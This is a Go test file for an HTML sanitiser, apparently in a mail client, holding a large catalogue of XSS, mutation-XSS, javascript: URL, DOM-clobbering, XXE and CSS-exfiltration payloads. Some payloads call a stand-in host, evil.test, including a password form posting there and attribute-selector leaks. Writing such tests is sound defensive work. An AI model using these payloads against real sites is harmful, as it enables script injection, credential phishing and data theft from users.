package sanitize

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// attacks are ways to get something past a sanitiser, class by class.
var attacks = map[string][]string{
	"scripts and handlers": {
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, "<img src=x\x0conerror=alert(1)>", `<body onload=alert(1)>`,
		`<div onclick="alert(1)" ONMOUSEOVER='alert(1)'>x</div>`, `<a href=# onfocus=alert(1) autofocus tabindex=1>x</a>`,
		`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<b is="x-y" slot=a part=b nonce=c>x</b>`,
		`<div popover id=x>y</div><button popovertarget=x commandfor=x command=show-popover>z</button>`, `<p contenteditable draggable=true inert accesskey=a>x</p>`,
	},
	"mutation": {
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<template><div><img src=x onerror=alert(1)></div></template>`, `<div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
		`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
		`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
		`<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>y</text></a></svg>`,
		`<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`, `<svg><style>@import'//evil.test/x';</style></svg>`, `<svg><title><img src=x onerror=alert(1)></title></svg>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`, `<title><img src=x onerror=alert(1)></title>`, `<textarea><img src=x onerror=alert(1)></textarea>`,
		`<noembed><img src=x onerror=alert(1)></noembed>`, `<noframes><img src=x onerror=alert(1)></noframes>`, `<plaintext><img src=x onerror=alert(1)>`,
		`<iframe><!--</iframe><img src=x onerror=alert(1)>-->`, `<a title="</style><img src=x onerror=alert(1)>">x</a>`,
		`<p>a<table><p>b<td>c<a href=https://a.test><table><a href=https://b.test>d`, `<a href=https://a.test><div><a href=https://b.test>x</a></div></a>`,
		`<table><tr><table><td><select><option><img src=x onerror=alert(1)>`, `<h1><h2><p><div><p><ul><li><li><dd><dt>x`, "<pre>\n\n<pre>\n\nx",
		strings.Repeat("<b><p>", 60) + "x", strings.Repeat("<div>", 300) + "x", strings.Repeat("<table><tr><td>", 100) + "x", strings.Repeat("<a>", 1000),
		`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<img alt="` + "`" + `onerror=alert(1)" src=x>`, `<math><mi><table><mi><style>*{}</style>`,
		`<svg><desc><table><tr><td><style><img src=x onerror=alert(1)>`, `<frameset><frame src=javascript:alert(1)></frameset>`,
	},
	"comments and declarations": {
		`<!-- <img src=x onerror=alert(1)> -->`, `<!--><img src=x onerror=alert(1)>-->`, `<!--->x<img src=y onerror=alert(1)>-->`, `<!--[if mso]><img src=x onerror=alert(1)><![endif]-->`,
		`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><?php echo 1 ?>`, `<!ENTITY x "y">`, `<!doctype html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
		`<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>`, "<\x00script>alert(1)</\x00script>", `</ script><//img>`, `<!--` + strings.Repeat("-", 100),
	},
	"addresses": {
		`<a href="javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="java&Tab;script&colon;alert(1)">x</a>`,
		`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="blob:https://mail.test/1">x</a>`, `<a href="filesystem:https://mail.test/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="\\evil.test\share">x</a>`,
		`<a href="/settings?delete=1">x</a>`, `<a href="../mail">x</a>`, `<a href="?x">x</a>`, `<a href="about:blank">x</a>`, `<a href="view-source:https://a.test">x</a>`, `<a href="ms-word:ofe|u|https://a.test">x</a>`,
		`<a href="intent://x#Intent;end">x</a>`, `<a href="https:evil.test">x</a>`, `<a href="https:\\evil.test">x</a>`, `<a href="https:///evil.test">x</a>`, `<a href="https://a.test\@evil.test">x</a>`,
		`<a href="https://bank.example@evil.test/">x</a>`, `<a href="https://evil.test/&quot;onclick=alert(1)">x</a>`, `<a href="https://evil.test/'%22<>">x</a>`, "<a href=\"https://ev\u200bil.test\">x</a>",
		`<a href="http://[::1%25eth0]/">x</a>`, `<a href="https://a.test:99999999/">x</a>`, `<a href="https://a..test">x</a>`, `<a href="https://user:pass@">x</a>`, `<a href="mailto:a@b.test?attach=/etc/passwd&amp;bcc=x@y.test&amp;from=z">x</a>`,
		`<a href="tel:<script>">x</a>`, `<a href="//evil.test">x</a>`, `<a href=https://a.test ping=https://evil.test/p download=x>x</a>`, `<a href=https://a.test target=_top rel=opener>x</a>`,
		`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="data:image/png;base64,PHN2Zy8+">`, `<img src="data:text/html;base64,aaaa">`, `<img src=/logout>`, `<img src="//evil.test/x.png">`,
		`<img src=cid:logo@x usemap=#m ismap longdesc=https://evil.test lowsrc=https://evil.test dynsrc=https://evil.test>`, `<img srcset="https://evil.test/1 1x" src=x>`, `<picture><source srcset=https://evil.test/1><img src=https://a.test/b.png></picture>`,
		`<map name=m><area href="javascript:alert(1)" alt=x><area href="https://a.test" alt=y></map>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<q cite=https://evil.test>x</q>`,
	},
	"documents and loads": {
		`<base href="https://evil.test/"><a href="x">y</a>`, `<meta http-equiv=refresh content="0;url=https://evil.test">`, `<meta charset=utf-7>+ADw-script+AD4-`, `<link rel=stylesheet href=https://evil.test/x.css>`,
		`<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test><link rel=prefetch href=//evil.test>`, `<iframe src=https://evil.test></iframe>`, `<object data=https://evil.test></object><embed src=https://evil.test><applet code=x></applet>`,
		`<audio src=https://evil.test autoplay></audio><video poster=https://evil.test><source src=https://evil.test><track src=https://evil.test></video>`, `<canvas>x</canvas><portal src=https://evil.test></portal><fencedframe>`,
		`<body background=https://evil.test/b.png><table background="https://evil.test/t.png"><td background='javascript:alert(1)'>x`, `<html manifest=https://evil.test><head profile=https://evil.test>`,
		`<input type=image src=https://evil.test/x>`, `<bgsound src=https://evil.test><isindex action=javascript:alert(1)>`, `<table background="https://evil.test/);x:url(//evil.test"><td>x`,
	},
	"forms": {
		`<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>Go</button><select><option>x</select><textarea>y</textarea></form>`,
		`<label for=x>l</label><fieldset><legend>y</legend></fieldset><keygen><output>z</output><progress></progress><meter></meter><datalist></datalist>`, `<dialog open>x</dialog><menuitem>`,
	},
	"clobbering": {
		`<img name=cookie><img name=getElementById><form name=body><input name=attributes></form>`, `<a id=location name=x>y</a>`, `<div id="part-0">x</div><div id="m-x" class="text quoted">y</div>`,
		`<div class="blocked sig between"></div>`, `<a name="body">x</a>`, `<p id="a b"></p><p id='"><script>'></p>`, `<div role=alert aria-live=assertive>x</div><div role=dialog aria-modal=true>`,
	},
	"styles in attributes": {
		`<p style="position:fixed;top:0;left:0;z-index:9999">x</p>`, `<p style="position:absolute!important;inset:0">x</p>`, `<p style="width:expression(alert(1))">x</p>`, `<p style="w\69 dth:e\78pression(alert(1))">x</p>`,
		`<p style="background:url(javascript:alert(1))">x</p>`, `<p style="background:url('https://evil.test/a.png')">x</p>`, `<p style="background:u\72l(https://evil.test/a.png)">x</p>`, `<p style="background:/**/url(/**/https://evil.test)">x</p>`,
		`<p style="background-image:image-set('https://evil.test' 1x)">x</p>`, `<p style="background-image:-webkit-image-set(url(https://evil.test) 1x),url(https://a.test/1),url(https://a.test/2)">x</p>`, `<p style="list-style:url(https://evil.test)">x</p>`,
		`<p style="content:url(https://evil.test);cursor:url(https://evil.test),auto">x</p>`, `<p style="border-image:url(https://evil.test) 1;mask:url(https://evil.test);filter:url(https://evil.test#x);clip-path:url(#x);shape-outside:url(https://evil.test)">x</p>`,
		`<p style="behavior:url(x.htc);-moz-binding:url(https://evil.test)">x</p>`, `<p style="color:red;}</style><script>alert(1)</script>">x</p>`, `<p style="font-family:'</style><img src=x onerror=alert(1)>'">x</p>`, `<p style="color:red\3b position:fixed">x</p>`,
		`<p style="--x:url(https://evil.test);color:var(--x);width:env(x);height:attr(data-x px)">x</p>`, `<p style="margin:-9999px;text-indent:-9999px;letter-spacing:-99px;word-spacing:-1em">x</p>`, `<p style="width:100vw;height:100vh;min-height:100dvh">x</p>`,
		`<p style="transform:scale(99);animation:x 1s;transition:all 1s;zoom:99;mix-blend-mode:difference;pointer-events:none;cursor:none">x</p>`, `<p style="width:1e999px;height:calc(1px*1e99);margin:calc(((((((1px)))))))">x</p>`, `<p style="color:red` + strings.Repeat("(", 1000) + `">x</p>`,
		`<p style="background:url(&quot;https://evil.test/&quot;) ; @import 'x'">x</p>`, `<p style="display:block;overflow:scroll;resize:both;user-select:none;all:unset;color-scheme:light;appearance:button">x</p>`, "<p style=\"color:red;\x00position:fixed\">x</p>", `<p style="position:sticky;float:left;opacity:.5">x</p>`,
		`<p style="background:url(https://evil.test/\22)\;x">x</p>`, `<p style="background:url(https://evil.test/a b)">x</p>`, `<p style="color:'a` + "\n" + `position:fixed">x</p>`,
	},
	"style elements": {
		`<style>@import url(https://evil.test/x.css);@import "https://evil.test";p{color:red}</style><p>x</p>`, `<style>@font-face{font-family:x;src:url(https://evil.test)}p{font-family:x}</style><p>x</p>`,
		`<style>@charset "utf-7";@namespace svg url(https://evil.test);@page{margin:0}@keyframes x{from{top:0}}@supports(x:y){p{color:red}}@layer a{p{color:red}}@container(width>1px){p{color:red}}@property --x{}@scope(p){a{color:red}}@document url(x){p{color:red}}</style>`,
		`<style>a:visited{background:url(https://evil.test)}input[value^=a]{background:url(https://evil.test)}:has(a){color:red}:target{color:red}a:hover{background:url(https://evil.test/h)}</style><a href=https://a.test>x</a>`,
		`<style>body{position:fixed}html,:root,*{position:absolute;top:0}#part-0{display:none}.text{display:none}</style><p class=text>x</p>`, `<style></style><script>alert(1)</script></style>`, `<style><!-- p{color:red} --></style><p>x</p>`,
		`<style>p{color:red}/* </style><img src=x onerror=alert(1)> */</style>`, `<style>p::before{content:"</style><script>alert(1)</script>"}p:after{content:url(https://evil.test);content:attr(href)}</style><p>x</p>`,
		`<style>@media screen{@media (min-width:1px){@media (min-width:2px){p{color:red}}}}@media (width<600px) and (color){p{color:red}}@media \73creen{p{position:fixed}}</style><p>x</p>`, `<style>p{color:red;b{color:blue}}}}}} body{background:url(https://evil.test)}</style><p>x</p>`,
		`<style>p{background:url("https://evil.test/\"}x{a:b")}</style><p>x</p>`, `<style>[class*="x" i],[id="a\22]b"],[data-x],a[href^="https://secret"]{background:url(https://evil.test)}</style><p class=x>x</p>`, `<style>` + strings.Repeat("p{", 5000) + `</style>`,
		`<style>` + strings.Repeat("@media screen{", 1000) + `</style>`, `<style>p{color:red` + strings.Repeat(";color:red", 30000) + `}</style><p>x</p>`, `<style>` + strings.Repeat("a,", 30000) + `a{color:red}</style>`, `<style media="screen){}</style><script>">p{color:red}</style>`,
		`<style>.a\{b,.\3c script,#\000031x,.x\"y{color:red}</style><p class='a{b'>x</p>`, `<style>p{background:#fff url(cid:logo@x) no-repeat fixed center/cover}</style><p>x</p>`, "<style>p{color:red;background:url(https://evil.test/\n)}q{color:blue}</style><p>x",
		`<style>@media (prefers-color-scheme:dark){p{color:#fff!important;background:url(https://evil.test/d)}}</style><p>x</p>`, `<style>::part(x),::slotted(x),:host,::marker,::selection,p:is(a),p:where(b),p:not(:has(a)){color:red}</style><p>x`,
	},
}

func TestNothingDangerousComesThrough(t *testing.T) {
	for class, list := range attacks {
		t.Run(class, func(t *testing.T) {
			for _, a := range list {
				for _, theme := range []string{"", "light", "dark", "auto", "original"} {
					doc := Document(context.Background(), []Part{{HTML: a}}, ours(theme))
					mustBeClean(t, a, doc.String())
				}
				inert(t, a, Quote(a))
				inert(t, a, Outgoing(a))
			}
		})
	}
}

// inert checks a fragment for a page of somebody else: no names, no styles of a page, addresses of the mail or the web.
func inert(t *testing.T, source, out string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out), element("div"))
	if err != nil {
		t.Errorf("%.200q: %v", source, err)
	}
	bad := func(format string, args ...any) {
		t.Helper()
		t.Errorf("%.200q: %s in %.500q", source, fmt.Sprintf(format, args...), out)
	}
	for _, n := range nodes {
		eachNode(n, func(n *html.Node) {
			if n.Type == html.CommentNode || n.Namespace != "" || n.Type == html.ElementNode && !mayElements[n.Data] {
				bad("node %q", n.Data)
			}
			for _, a := range n.Attr {
				switch a.Key {
				case "href", "src":
					if !foreignAddress.MatchString(a.Val) {
						bad("address %q", a.Val)
					}
				case "style":
					checkDeclarations(a.Val, bad)
					if strings.Contains(a.Val, "url(") {
						bad("picture in %q", a.Val)
					}
				case "id", "class", "target", "rel":
					bad("attribute %s", a.Key)
				default:
					if !mayAttributes[a.Key] {
						bad("attribute %s", a.Key)
					}
				}
			}
		})
	}
}

var foreignAddress = regexp.MustCompile(`^(https?://|mailto:|tel:|sms:|cid:|data:image/(png|jpeg|gif|webp);)`)

func eachNode(n *html.Node, f func(*html.Node)) {
	f(n)
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		eachNode(c, f)
	}
}

func TestWithoutConsentNothingOfAnotherSiteIsLoaded(t *testing.T) {
	for _, list := range attacks {
		for _, a := range list {
			doc := Document(context.Background(), []Part{{HTML: a}}, Options{Theme: "auto"}).String()
			if strings.Contains(doc, "url(&#34;") || strings.Contains(doc, `url("`) || regexp.MustCompile(`src="[^d]`).MatchString(doc) {
				t.Errorf("%.200q loads: %.2000s", a, doc)
			}
		}
	}
}
